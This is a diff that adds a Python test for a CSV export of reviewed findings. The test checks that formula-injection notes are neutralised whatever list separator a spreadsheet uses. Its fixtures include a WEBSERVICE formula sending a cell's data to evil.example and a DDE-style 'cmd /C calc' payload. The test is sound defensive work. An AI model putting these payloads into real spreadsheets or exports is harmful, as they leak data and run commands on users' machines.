@@ -277,3 +277,35 @@ def test_a_csv_cut_at_its_limit_says_so_in_the_file(seeded: tuple[Store, list[di
     assert text.rstrip().splitlines()[-1].startswith(f"# cut at {len(events) - 3} findings: more match")
     whole = "".join(queue.csv_lines(store, f, UTC, kept_from=KEPT_FROM, limit=len(events)))
     assert "# cut" not in whole and len(list(csv.DictReader(io.StringIO(whole)))) == len(events)
+
+
+def test_no_cell_of_the_csv_starts_a_formula_whatever_the_spreadsheets_list_separator(
+    seeded: tuple[Store, list[dict[str, Any]]],
+) -> None:
+    """German, French or Dutch Excel splits a CSV at ';' and ignores the quotes ',' put around
+    a note (they sit in the middle of its ';' field): a note 'x;=WEBSERVICE(...)' was a cell
+    starting with '='. The bytes are split as each separator splits them (a quote counts only
+    at a cell's start, as there) and no cell may begin with a sign, blanks before it or not."""
+    store, events = seeded
+    notes = [
+        'fine;=WEBSERVICE("http://evil.example/?"&B2)',
+        "ok; @SUM(1+1)*cmd|' /C calc'!A0",
+        "a,+1\n-2\r\n =3\t@4",
+        "desk 3 - phone, worker -ok; all well",
+    ]
+    with store.transaction() as tx:
+        for ev, note in zip(events, notes, strict=False):
+            review.review(tx, SUP, ev["event_id"], "dismiss", "other", note, T0.timestamp())
+        review.contest(tx, User(events[4]["worker_id"], "worker", (events[4]["site"],), events[4]["worker_id"]),
+                       events[4]["event_id"], "x;-1+1", T0.timestamp())  # fmt: skip
+    text = "".join(queue.csv_lines(store, parse_filters({"view": ["all"]}, SUP, UTC), UTC, kept_from=KEPT_FROM))
+    raw = text.encode("utf-8")
+    for sep in (",", ";", "\t"):
+        for line in raw.decode("utf-8").splitlines():
+            for cell in line.split(sep):
+                stripped = cell.lstrip(' "\t')
+                assert stripped[:1] not in ("=", "+", "-", "@"), (sep, cell)
+    rows = {r["event_id"]: r for r in csv.DictReader(io.StringIO(text))}
+    assert rows[events[0]["event_id"]]["review_note"] == 'fine;\'=WEBSERVICE("http://evil.example/?"&B2)'
+    assert rows[events[3]["event_id"]]["review_note"] == "desk 3 - phone, worker -ok; all well"  # words stay
+    assert rows[events[4]["event_id"]]["contest_note"] == "x;'-1+1"
